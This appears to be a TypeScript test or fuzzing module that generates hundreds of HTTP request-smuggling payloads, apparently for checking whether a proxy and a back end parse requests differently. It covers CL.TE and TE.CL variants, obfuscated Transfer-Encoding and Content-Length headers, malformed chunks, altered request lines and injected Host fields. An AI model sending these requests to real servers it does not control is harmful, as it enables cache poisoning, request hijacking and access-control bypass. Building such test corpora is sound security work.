/**
 * A grammar of requests that two servers may read in two ways. `{P}` stands for the path of the back end; a request for
 * `{P}smuggled` lies where only one of two readers would find it.
 */

export interface Hostile {
  readonly technique: string;
  /** latin1 */
  readonly bytes: string;
}

const host = "Host: shop.example";
const smuggled = `GET {P}smuggled HTTP/1.1\r\n${host}\r\n\r\n`;
const show = (text: string): string => JSON.stringify(text).slice(1, -1);

const head = (line: string, ...fields: readonly string[]): string =>
  `${[`${line} HTTP/1.1`, host, ...fields].join("\r\n")}\r\n\r\n`;

/** Ways to write `Transfer-Encoding: chunked` that some readers take for it and others do not. */
const codings: readonly string[] = [
  "Transfer-Encoding: chunked",
  "transfer-encoding: CHUNKED",
  "Transfer-Encoding:chunked",
  "Transfer-Encoding:\tchunked",
  "Transfer-Encoding: chunked ",
  "Transfer-Encoding: chunked\t",
  "Transfer-Encoding : chunked",
  "Transfer-Encoding\t: chunked",
  " Transfer-Encoding: chunked",
  "X: y\r\n Transfer-Encoding: chunked",
  "Transfer-Encoding:\r\n chunked",
  "Transfer-Encoding:\n chunked",
  "Transfer-Encoding\r\n: chunked",
  "X: y\nTransfer-Encoding: chunked",
  "X: y\rTransfer-Encoding: chunked",
  "X: y\r\r\nTransfer-Encoding: chunked",
  "Transfer-Encoding: \x0bchunked",
  "Transfer-Encoding: \x0cchunked",
  "Transfer-Encoding: chunked\x0b",
  "Transfer-Encoding: \0chunked",
  "Transfer-Encoding\0: chunked",
  "Transfer-Encoding: chunked\0",
  "Transfer-Encoding: \xa0chunked",
  "Transfer-Encoding: \xffchunked",
  "Transfer\x96Encoding: chunked",
  "Transfer_Encoding: chunked",
  "Transfer-Encoding: xchunked",
  "Transfer-Encoding: chunkedx",
  "Transfer-Encoding: chunk",
  "Transfer-Encoding: 'chunked'",
  'Transfer-Encoding: "chunked"',
  "Transfer-Encoding: chunked;q=1",
  "Transfer-Encoding: chunked; a=b",
  "Transfer-Encoding: ,chunked",
  "Transfer-Encoding: chunked,",
  "Transfer-Encoding: chunked, identity",
  "Transfer-Encoding: identity, chunked",
  "Transfer-Encoding: gzip, chunked",
  "Transfer-Encoding: chunked, chunked",
  "Transfer-Encoding: chunked chunked",
  "Transfer-Encoding: identity\r\nTransfer-Encoding: chunked",
  "Transfer-Encoding: chunked\r\nTransfer-Encoding: identity",
  "Transfer-Encoding: chunked\r\nTransfer-encoding: x",
  "Transfer-Encoding:\r\nTransfer-Encoding: chunked",
  "Connection: transfer-encoding\r\nTransfer-Encoding: chunked",
  "Content-Encoding: chunked",
  "TE: chunked",
  "Transfer-Encoding: identity",
];

const inChunks = `0\r\n\r\n${smuggled}`;
const byCoding = codings.flatMap((coding): Hostile[] => {
  const with2 = (name: string, ...fields: readonly string[]): Hostile => ({
    technique: `${name}, ${show(coding)}`,
    bytes: head("POST {P}x", ...fields) + inChunks,
  });
  return [
    with2("CL.TE", `Content-Length: {L}`, coding),
    with2("TE.CL", coding, "Content-Length: 5"),
    with2("TE alone", coding),
  ];
});

/** Ways to write a length. The body is five bytes, and a request. */
const lengths: readonly string[] = [
  "Content-Length: 5\r\nContent-Length: 5",
  "Content-Length: 5\r\nContent-Length: {L}",
  "Content-Length: {L}\r\nContent-Length: 5",
  "Content-Length: 5, 5",
  "Content-Length: 5,{L}",
  "Content-Length: +5",
  "Content-Length: -5",
  "Content-Length: 5-",
  "Content-Length: 0x5",
  "Content-Length: 05",
  "Content-Length: 0000000000000000000000000005",
  "Content-Length: 5.0",
  "Content-Length: 5e0",
  "Content-Length: 5_0",
  "Content-Length: 5 0",
  "Content-Length: 5;a",
  "Content-Length: 5x",
  "Content-Length: x5",
  'Content-Length: "5"',
  "Content-Length:",
  "Content-Length: \x00005",
  "Content-Length: 5\0",
  "Content-Length: \x0b5",
  "Content-Length: \xb2",
  "Content-Length : 5",
  "Content-Length\t: 5",
  " Content-Length: 5",
  "Content-Length:\r\n 5",
  "Content-Length:\n5",
  "Content_Length: 5",
  "Content-Length: 4294967301",
  "Content-Length: 18446744073709551621",
  "Content-Length: 99999999999999999999999999",
  "X: y\nContent-Length: 5",
  "X: y\rContent-Length: 5",
  "Connection: content-length\r\nContent-Length: 5",
  "Connection: close, Content-Length\r\nContent-Length: {L}",
  "Content-Length: 5\r\nX-Content-Length: 0",
];
const byLength = lengths.flatMap((length): Hostile[] =>
  ["POST", "GET"].map((method) => ({
    technique: `${method}, ${show(length)}`,
    bytes: `${head(`${method} {P}x`, length)}hello${smuggled}`,
  })),
);

/** Bodies of chunks that are not what RFC 9112 §7.1 writes. */
const chunkBodies: readonly string[] = [
  "0x5\r\nhello\r\n0\r\n\r\n",
  "+5\r\nhello\r\n0\r\n\r\n",
  "-5\r\nhello\r\n0\r\n\r\n",
  "5_\r\nhello\r\n0\r\n\r\n",
  "_5\r\nhello\r\n0\r\n\r\n",
  " 5\r\nhello\r\n0\r\n\r\n",
  "5 \r\nhello\r\n0\r\n\r\n",
  "\t5\r\nhello\r\n0\r\n\r\n",
  "5\t\r\nhello\r\n0\r\n\r\n",
  "5\x0b\r\nhello\r\n0\r\n\r\n",
  "5\0\r\nhello\r\n0\r\n\r\n",
  "0000000000000000000000000000000000000005\r\nhello\r\n0\r\n\r\n",
  "100000005\r\nhello\r\n0\r\n\r\n",
  "10000000000000005\r\nhello\r\n0\r\n\r\n",
  "ffffffffffffffff\r\nhello\r\n0\r\n\r\n",
  "g\r\nhello\r\n0\r\n\r\n",
  "\r\nhello\r\n0\r\n\r\n",
  "5\nhello\n0\n\n",
  "5\r\nhello\n0\r\n\r\n",
  "5\rhello\r\n0\r\n\r\n",
  "5\r\nhello\r0\r\n\r\n",
  "5\r\nhello0\r\n\r\n",
  "5\r\nhelloXX0\r\n\r\n",
  "5\r\nhello!\r\n0\r\n\r\n",
  "4\r\nhello\r\n0\r\n\r\n",
  "5;\r\nhello\r\n0\r\n\r\n",
  "5;a=b\r\nhello\r\n0\r\n\r\n",
  '5;a="\r\n"\r\nhello\r\n0\r\n\r\n',
  "5;a\nhello\r\n0\r\n\r\n",
  "5;\n\r\nhello\r\n0\r\n\r\n",
  "5;a\rb\r\nhello\r\n0\r\n\r\n",
  "5;\0\r\nhello\r\n0\r\n\r\n",
  `5;${"x".repeat(20_000)}\r\nhello\r\n0\r\n\r\n`,
  "5\r\nhello\r\n0;x\r\n\r\n",
  "5\r\nhello\r\n00000\r\n\r\n",
  "5\r\nhello\r\n0\n\r\n",
  "5\r\nhello\r\n0\r\n\n",
  "5\r\nhello\r\n0\n\n",
  "5\r\nhello\r\n0\r\nGET {P}smuggled HTTP/1.1\r\n\r\n",
  "5\r\nhello\r\n0\r\nX: y\r\n\r\n",
  "5\r\nhello\r\n0\r\nX : y\r\n\r\n",
  "5\r\nhello\r\n0\r\nX: y\nZ: a\r\n\r\n",
  "5\r\nhello\r\n0\r\nX: y\r\n z\r\n\r\n",
  "5\r\nhello\r\n0\r\nContent-Length: 50\r\n\r\n",
  "5\r\nhello\r\n0\r\nTransfer-Encoding: chunked\r\n\r\n",
  "5\r\nhello\r\n0\r\nHost: evil.example\r\n\r\n",
  "5\r\nhello\r\n0\r\nX: \0\r\n\r\n",
  "5\r\nhello\r\n-0\r\n\r\n",
  "5\r\nhello\r\n0x0\r\n\r\n",
  "2\r\nhe\r\n3\r\nllo\r\n0\r\n\r\n",
];
const byChunks = chunkBodies.map(
  (body): Hostile => ({
    technique: `chunks ${show(body).slice(0, 60)}`,
    bytes: head("POST {P}x", "Transfer-Encoding: chunked") + body + smuggled,
  }),
);

/** Request lines that could be two, or another one. */
const lines: readonly string[] = [
  "GET {P}x HTTP/1.1\n",
  "GET {P}x HTTP/1.1\r",
  "GET {P}x HTTP/1.1\r\r\n",
  "GET {P}x HTTP/1.1\0\r\n",
  "GET {P}x HTTP/1.1 \r\n",
  "GET {P}x  HTTP/1.1\r\n",
  "GET\t{P}x\tHTTP/1.1\r\n",
  "GET\x0b{P}x\x0bHTTP/1.1\r\n",
  "GET\r{P}x HTTP/1.1\r\n",
  " GET {P}x HTTP/1.1\r\n",
  "\n\nGET {P}x HTTP/1.1\r\n",
  "\0GET {P}x HTTP/1.1\r\n",
  "GET {P}x HTTP/1.1 HTTP/1.1\r\n",
  "GET {P}x\nHTTP/1.1\r\n",
  "GET {P}x\rHTTP/1.1\r\n",
  "GET {P}x%0d%0aX:y HTTP/1.1\r\n",
  "GET {P}x%20HTTP/1.1%0d%0aHost:a HTTP/1.1\r\n",
  "GET {P}x\0 HTTP/1.1\r\n",
  "GET {P}\x7f HTTP/1.1\r\n",
  "GET {P}\xe9 HTTP/1.1\r\n",
  "GET {P}x#y HTTP/1.1\r\n",
  "GET {P}../x HTTP/1.1\r\n",
  "GET {P}%2e%2e/x HTTP/1.1\r\n",
  "GET {P}..;/x HTTP/1.1\r\n",
  "GET {P}x\\..\\y HTTP/1.1\r\n",
  "GET http://shop.example{P}x HTTP/1.1\r\n",
  "GET http://evil.example{P}x HTTP/1.1\r\n",
  "GET http://shop.example@evil.example{P}x HTTP/1.1\r\n",
  "GET //evil.example{P}x HTTP/1.1\r\n",
  "GET shop.example{P}x HTTP/1.1\r\n",
  "GET ?{P}x HTTP/1.1\r\n",
  "GET * HTTP/1.1\r\n",
  "G ET {P}x HTTP/1.1\r\n",
  "get {P}x HTTP/1.1\r\n",
  "GE(T {P}x HTTP/1.1\r\n",
  "GET {P}x HTTP/1.10\r\n",
  "GET {P}x HTTP/01.1\r\n",
  "GET {P}x HTTP/1.1.\r\n",
  "GET {P}x HTTP/11\r\n",
  "GET {P}x HTTP/0.9\r\n",
  "GET {P}x HTTP/1.0\r\n",
  "GET {P}x HTTP/2.0\r\n",
  "GET {P}x HTTP/3.7\r\n",
  "GET {P}x http/1.1\r\n",
  "GET {P}x HTTPS/1.1\r\n",
  "GET {P}x\r\n",
  "CONNECT {P}x HTTP/1.1\r\n",
  "CONNECT shop.example:80 HTTP/1.1\r\n",
  "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n",
];
const byLine = lines.map(
  (line): Hostile => ({
    technique: `request line ${show(line)}`,
    bytes: `${line}${host}\r\n\r\n${smuggled}`,
  }),
);

// HAProxy sends no handshake on that has no key.
const websocket = "Connection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==";

/** Fields whose names or values hide another one. */
const fields: readonly string[] = [
  "Host: evil.example",
  "Host : evil.example",
  "Host:",
  " Host: evil.example",
  "X: y\nHost: evil.example",
  "HOST: shop.example",
  "X-Host: a\r\n\tHost: b",
  "Connection: host",
  "Connection: close, host",
  "Connection: x-forwarded-for",
  "Connection: keep-alive\r\nConnection: upgrade\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMA",
  `${websocket}\r\nSec-WebSocket-Version: 13`,
  `${websocket}\r\nSec-WebSocket-Version: 99`,
  `${websocket}\r\nSec-WebSocket-Version: 13\r\nContent-Length: {L}`,
  `${websocket}\r\nSec-WebSocket-Version: 13\r\nTransfer-Encoding: chunked`,
  "X: \0",
  "X\0: y",
  "X: y\x01",
  "X\x7f: y",
  "X\xe9: y",
  ": y",
  "X",
  "X y: z",
  "X: y\r\n\r",
  "\r",
  "\0",
  "(X): y",
  "X: y\r\nContent-Length\xa0: 5",
  "X: y\x85Content-Length: 5",
  "GET {P}smuggled HTTP/1.1",
  "Expect: 100-continue",
  "Expect: 100-continue\r\nContent-Length: 5",
  "Expect: 200-maybe",
  "Expect: 100-continue, 100-continue",
  "Trailer: Content-Length",
  "Range: bytes=0-1\r\nX-HTTP-Method-Override: POST",
  "Max-Forwards: 0",
  `X: ${"y".repeat(40_000)}`,
  Array.from({ length: 400 }, (_, i) => `X-${i}: y`).join("\r\n"),
];
const byField = fields.map(
  (field): Hostile => ({
    technique: `field ${show(field).slice(0, 70)}`,
    bytes: `${head("GET {P}x", field)}${smuggled}`,
  }),
);

/** Requests after one that is answered before its body has been read, or whose answer has none. */
const bodies: readonly (readonly [string, string])[] = [
  ["a body that is a request, at a file", `${head("POST /a.txt", "Content-Length: {L}")}${smuggled}`],
  ["chunks that hold a request, at a file", `${head("POST /a.txt", "Transfer-Encoding: chunked")}${"{C}"}`],
  ["a body that is a request, at nothing", `${head("POST /nothing", "Content-Length: {L}")}${smuggled}`],
  ["a body that is a request, too large", `${head("POST /tr/v1/", "Content-Length: 99999999")}${smuggled}`],
  ["a body that is a request, on HEAD", `${head("HEAD {P}x", "Content-Length: {L}")}${smuggled}`],
  ["a body that is a request, on GET", `${head("GET {P}x", "Content-Length: {L}")}${smuggled}`],
  ["a body that is a request, on DELETE", `${head("DELETE {P}x", "Content-Length: {L}")}${smuggled}`],
  ["a body that is a request, on OPTIONS", `${head("OPTIONS {P}x", "Content-Length: {L}")}${smuggled}`],
  ["a body that is a request, on TRACE", `${head("TRACE {P}x", "Content-Length: {L}")}${smuggled}`],
  ["a body that stops half-way", `${head("POST {P}x", "Content-Length: 500")}${smuggled}`],
  [
    "chunks that stop half-way",
    `${head("POST {P}x", "Transfer-Encoding: chunked")}40\r\n${smuggled.slice(0, 20)}`,
  ],
  [
    "five requests in one",
    head("GET {P}x") +
      head("HEAD {P}x") +
      head("POST {P}x", "Content-Length: 0") +
      head("GET /a.txt") +
      smuggled,
  ],
  ["a request behind one that closes", head("GET {P}x", "Connection: close") + smuggled],
  ["a request behind a refused one", head("GET {P}x", "Content-Length: x") + smuggled],
  ["a request behind HTTP/1.0", `GET {P}x HTTP/1.0\r\n${host}\r\n\r\n${smuggled}`],
  ["a body in HTTP/1.0", `POST {P}x HTTP/1.0\r\n${host}\r\nContent-Length: 5\r\n\r\nhello${smuggled}`],
  ["chunks in HTTP/1.0", `POST {P}x HTTP/1.0\r\n${host}\r\nTransfer-Encoding: chunked\r\n\r\n${inChunks}`],
  [
    "chunks in kept-alive HTTP/1.0",
    `POST {P}x HTTP/1.0\r\n${host}\r\nConnection: keep-alive\r\nTransfer-Encoding: chunked\r\n\r\n${inChunks}`,
  ],
  [
    "an expectation and the body at once",
    `${head("POST {P}x", "Expect: 100-continue", "Content-Length: {L}")}${smuggled}`,
  ],
  ["empty lines between requests", `${head("GET {P}x")}\r\n\r\n\r\n${smuggled}`],
  ["bytes between requests", `${head("GET {P}x")}\0\0${smuggled}`],
];
const byBody = bodies.map(([technique, bytes]): Hostile => ({ technique, bytes }));

/** All of them, for the back end at the path. */
export const hostileRequests = (path: string): readonly Hostile[] =>
  [...byCoding, ...byLength, ...byChunks, ...byLine, ...byField, ...byBody].map(({ technique, bytes }) => {
    const inside = smuggled.replaceAll("{P}", path);
    const whole = bytes.replaceAll("{P}", path);
    const length = (whole.includes(inChunks.replaceAll("{P}", path)) ? 5 : 0) + inside.length;
    return {
      technique,
      bytes: whole
        .replaceAll("{L}", String(length))
        .replaceAll("{C}", `${inside.length.toString(16)}\r\n${inside}\r\n0\r\n\r\n`),
    };
  });
